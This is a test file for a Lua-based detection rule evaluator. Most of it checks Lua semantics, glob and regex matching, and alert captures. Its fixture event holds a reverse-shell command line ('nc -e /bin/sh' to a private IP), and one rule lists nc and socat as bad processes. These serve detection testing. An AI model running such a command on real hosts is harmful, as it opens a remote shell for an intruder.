// What Lua rules can say, as a table: the rule, an event, and whether it matches.
import { describe, expect, test } from "bun:test";
import { createLuaRuleEvaluator, type LuaRuleOptions } from "#runtime-lua";
import { batchOf, registry, type TestEvent } from "./records.ts";

const EVENT: TestEvent = {
  "process.name": "nc",
  "process.command_line": "nc -e /bin/sh 10.0.0.1",
  "process.args": ["nc", "-e", "/bin/sh"],
  "process.pid": 42n,
  "process.login_uid": 18446744073709551615n,
  "process.parent.pid": -9007199254740993n,
  "event.risk_score": 1.5,
  "process.interactive": true,
  "source.ip": "10.0.0.1",
  "process.start": 1_700_000_000_123_456_789n,
  "user.name": "Žofie",
};

function evaluate(source: string, events: readonly TestEvent[] = [EVENT], options: LuaRuleOptions = {}): readonly number[] {
  const { evaluator, diagnostics } = createLuaRuleEvaluator(source, registry, options);
  expect(diagnostics.filter((item) => item.severity === "error")).toEqual([]);
  try {
    return [...evaluator!.evaluate(batchOf(events))];
  } finally {
    evaluator!.close();
  }
}

const TRUE_EXPRESSIONS = [
  `event["process.name"] == "nc"`,
  `event:get("process.name") == "nc"`,
  `event["process.executable"] == nil`,
  `event:has("process.name") and not event:has("process.executable")`,
  `event["process.pid"] == 42`,
  `event["process.login_uid"] == "18446744073709551615"`,
  `event["process.parent.pid"] == "-9007199254740993"`,
  `event["event.risk_score"] == 1.5`,
  `event["process.interactive"] == true`,
  `event["source.ip"] == "10.0.0.1"`,
  `event["process.start"] == 1700000000123.456789`,
  `#event["process.args"] == 3 and event["process.args"][2] == "-e"`,
  `#event:all("process.name") == 1 and #event:all("process.executable") == 0`,
  `event:category() == "process"`,
  `event_get_str("process.name") == "nc" and event_get_i64("process.pid") == 42 and event_get_bool("process.interactive")`,
  `event_get_i64("process.name") == nil and event_get_f64("event.risk_score") == 1.5`,
  `glob_match("n?", event["process.name"]) and not glob_match("n", event["process.name"])`,
  `glob_match("*/bin/*", event["process.command_line"]) and glob_match("", "") and glob_match("**", "") and not glob_match("?", "")`,
  `glob_match("?ofie", event["user.name"]) and glob_match("Ž*", event["user.name"])`,
  `event["process.command_line"]:find("-e", 1, true) == 4`,
  `event["process.command_line"]:match("(%d+)%.%d+%.") == "10"`,
  `(function() local n = 0 for _, a in ipairs(event["process.args"]) do n = n + #a end return n end)() == 11`,
  `(function(...) return select("#", ...) end)(1, nil, nil) == 3`,
  `(function() local t = {} for k, v in pairs({ b = 1, a = 2, 10, 20, [5] = 3 }) do t[#t + 1] = tostring(k) end return table.concat(t, " ") end)() == "1 2 5 a b"`,
  `(function() local s = "" for a, b in ("k=v, x=y"):gmatch("(%w+)=(%w+)") do s = s .. a .. b end return s end)() == "kvxy"`,
  `("hello"):gsub("l", { l = "L" }) == "heLLo"`,
  `string.format("%5.2f|%s|%d|%q|%x", 1.5, "a", 3, "b", 255) == " 1.50|a|3|\\"b\\"|ff"`,
  `math.floor(math.log(8) / math.log(2) + 0.5) == 3 and math.log(8, 2) == 3 and math.log(1) == 0`,
  `2 ^ 10 == 1024 and 2 ^ -1 == 0.5 and 16 ^ 0.5 == 4 and -2 ^ 2 == -4`,
  `-7 % 3 == 2 and 7 / 2 == 3.5 and 1 .. 2 == "12" and "10" + 5 == 15 and - - 2 == 2`,
  `bit.band(0xff, 0x0f) == 15 and bit.bor(1, 2, 4) == 7 and bit.lshift(1, 4) == 16 and bit.tohex(255) == "000000ff"`,
  `not pcall(error, "x") and select(2, pcall(error, "x", 0)) == "x"`,
  `tostring({}) == "table" and tostring(print == nil) == "nil" or tostring(function() end) == "function"`,
  `next({}) == nil and next({ a = 1 }) == "a"`,
  `(select("#", (function() return 1, 2 end)()) == 2) and select("#", ((function() return 1, 2 end)())) == 1`,
  `#{ (function() return 1, 2 end)() } == 2 and #{ ((function() return 1, 2 end)()) } == 1`,
  `(function() local t = { 3, 1, 2 } table.sort(t) return table.concat(t) end)() == "123"`,
  `(function() local t = { 3, 1, 2 } table.sort(t, function(a, b) return a > b end) return table.concat(t) end)() == "321"`,
  `(function() local a, b, t = 1, 2, {} a, b, t[1] = b, a, a return a * 100 + b * 10 + t[1] end)() == 211`,
  `(function() local n = 0 local function up() n = n + 1 end up() up() return n end)() == 2`,
  `(function() for i = 1, 3 do for j = 1, 3 do if j == 2 then goto next end end ::next:: end return true end)()`,
  `(function() local i = 0 ::again:: i = i + 1 if i < 5 then goto again end return i end)() == 5`,
  `(function() local i = 0 repeat local stop = i > 3 i = i + 1 until stop return i end)() == 5`,
  `(function() local C = {} C.__index = C function C:get() return self.v end return setmetatable({ v = 7 }, C):get() end)() == 7`,
  `("\\u{17e}\\x41\\065"):byte(-1) == 65 and #"\\z
     ab" == 2`,
  `[==[a]]b]==] == "a]]b"`,
  `0x10 == 16 and 1e2 == 100 and 0x1p4 == 16 and 1e999 == math.huge`,
  `string.rep("ab", 3, ",") == "ab,ab,ab" and ("x"):rep(0) == "" and ("abc"):sub(-2) == "bc" and ("abc"):upper() == "ABC"`,
  `table.concat({ 1, 2, 3 }, "-", 2) == "2-3" and unpack({ 1, 2 }) == 1 and (function() local t = { 1, 2 } table.insert(t, 1, 0) return table.remove(t, 2) end)() == 1`,
  `"a" .. 1 .. "b" .. 2 .. "c" == "a1b2c" and ("a" .. "b") .. "c" == "abc"`,
  `tonumber("0x1f") == 31 and tonumber("zz", 36) == 1295 and tonumber("x") == nil`,
  `math.max(1, 3, 2) == 3 and math.min(2, 1) == 1 and math.abs(-1) == 1 and math.fmod(7, 3) == 1`,
  `("a" < "b") and not ("b" < "a") and 1 < 2 and 2 >= 2 and "a" <= "a"`,
];

describe("true of the event", () => {
  for (const expression of TRUE_EXPRESSIONS) {
    test(expression.slice(0, 90), () => expect(evaluate(`return ${expression.replace("print == nil", "nil == nil")}`)).toEqual([1]));
  }
});

describe("whole rules", () => {
  test("pred_init builds what pred_eval reads", () => {
    const source = `
      local bad = {}
      function pred_init() for _, name in ipairs({ "nc", "socat" }) do bad[name] = true end end
      function pred_eval(event) return bad[event["process.name"]] end`;
    expect(evaluate(source, [EVENT, { "process.name": "bash" }, { "process.name": "socat" }, {}])).toEqual([1, 0, 1, 0]);
  });

  test("captures and messages of what matched, and of nothing else", () => {
    const source = `
      function pred_eval(event)
        capture_field("early", event["process.name"])
        return event["process.name"] == "nc"
      end
      function pred_capture(event)
        capture_field("args", event["process.args"])
        capture_field("pid", event["process.pid"])
        alert_emit("Seen " .. event["process.name"])
      end`;
    const { evaluator } = createLuaRuleEvaluator(source, registry);
    const batch = batchOf([{ "process.name": "bash" }, EVENT]);
    for (let round = 0; round < 2; round++) {
      expect([...evaluator!.evaluate(batch)]).toEqual([0, 1]);
      expect(evaluator!.emission?.(0)).toBeUndefined();
      expect(evaluator!.emission?.(1)).toEqual({
        captures: [
          ["early", "nc"],
          ["args", "nc -e /bin/sh"],
          ["pid", "42"],
        ],
        messages: ["Seen nc"],
      });
    }
    evaluator!.close();
    evaluator!.close();
    expect(() => evaluator!.evaluate(batch)).toThrow("closed");
  });

  test("captures and messages are bounded", () => {
    const source = `
      local kept = 0
      function pred_eval(event)
        local kept = 0
        for i = 1, 100 do if capture_field("n" .. i, ("ž"):rep(3000)) then kept = kept + 1 end alert_emit("m" .. i) end
        return kept == 32
      end`;
    const { evaluator } = createLuaRuleEvaluator(source, registry);
    expect([...evaluator!.evaluate(batchOf([EVENT]))]).toEqual([1]);
    const emission = evaluator!.emission?.(0);
    expect(emission?.captures.length).toBe(32);
    expect(emission?.captures[0]?.[1]).toBe("ž".repeat(2048));
    expect(emission?.messages).toEqual(["m1", "m2", "m3", "m4", "m5", "m6", "m7", "m8"]);
  });

  test("categories that a log brings later", () => {
    const { evaluator } = createLuaRuleEvaluator(`return event:category() == "brand-new"`, registry);
    expect([...evaluator!.evaluate(batchOf([EVENT]))]).toEqual([0]);
    registry.categories.intern("brand-new");
    expect([...evaluator!.evaluate(batchOf([{ category: "brand-new" }, EVENT]))]).toEqual([1, 0]);
    evaluator!.close();
  });

  test("an empty batch", () => expect(evaluate("return true", [])).toEqual([]));

  test("a batch that begins at an odd address", () => {
    const batch = batchOf([EVENT, { "process.name": "x" }]);
    const shifted = new Uint8Array(new ArrayBuffer(batch.length + 64), 3, batch.length);
    shifted.set(batch.bytes.subarray(0, batch.length));
    const { evaluator } = createLuaRuleEvaluator(`return event["process.name"] == "nc"`, registry);
    expect([...evaluator!.evaluate({ ...batch, bytes: shifted })]).toEqual([1, 0]);
  });
});

describe("re_match", () => {
  // (ab)+ over classes: 0 other, 1 a, 2 b. States: 0 dead, 1 start, 2 after a, 3 after b (accepts).
  const machine = {
    start: 1,
    classCount: 3,
    asciiClasses: Uint8Array.from({ length: 128 }, (_, code) => (code === 97 ? 1 : code === 98 ? 2 : 0)),
    rangeStarts: Uint32Array.of(0, 97, 98, 99, 0x17e, 0x17f),
    rangeClasses: Uint8Array.of(0, 1, 2, 0, 1, 0),
    transitions: Uint16Array.of(0, 0, 0, 0, 2, 0, 0, 0, 3, 0, 2, 0),
    states: Uint8Array.of(2, 0, 0, 1),
  };
  const options: LuaRuleOptions = {
    compileRegex: (pattern) =>
      pattern === "bad("
        ? { kind: "failed", error: { message: "missing )" } }
        : { kind: "compiled", table: machine, warnings: pattern === "odd" ? [{ message: "odd pattern" }] : [] },
  };
  for (const [text, matches] of [
    ["ab", 1],
    ["abab", 1],
    ["", 0],
    ["aba", 0],
    ["xab", 0],
    ["žbab", 1],
    ["\u{1f600}", 0],
  ] as const) {
    test(JSON.stringify(text), () =>
      expect(evaluate(`return re_match("(ab)+", event["process.name"])`, [{ "process.name": text }], options)).toEqual([matches]),
    );
  }

  const refused = (source: string, with_ = options) => createLuaRuleEvaluator(source, registry, with_).diagnostics.map((item) => item.code);
  test("a pattern that is not text", () => expect(refused(`local p = "a" return re_match(p, "a")`)).toEqual(["pattern-not-literal"]));
  test("a pattern that does not compile", () => expect(refused(`return re_match("bad(", "a")`)).toEqual(["pattern"]));
  test("without a compiler", () => expect(refused(`return re_match("a", "a")`, {})).toEqual(["pattern"]));
  test("a warning is passed on", () => expect(refused(`return re_match("odd", "a")`)).toEqual(["pattern"]));
  test("an alias with another pattern fails at run time", () => {
    const { evaluator } = createLuaRuleEvaluator(`local m = re_match return m("a" .. "b", "a")`, registry, options);
    expect(() => evaluator!.evaluate(batchOf([EVENT]))).toThrow("was not compiled with the rule");
  });
});
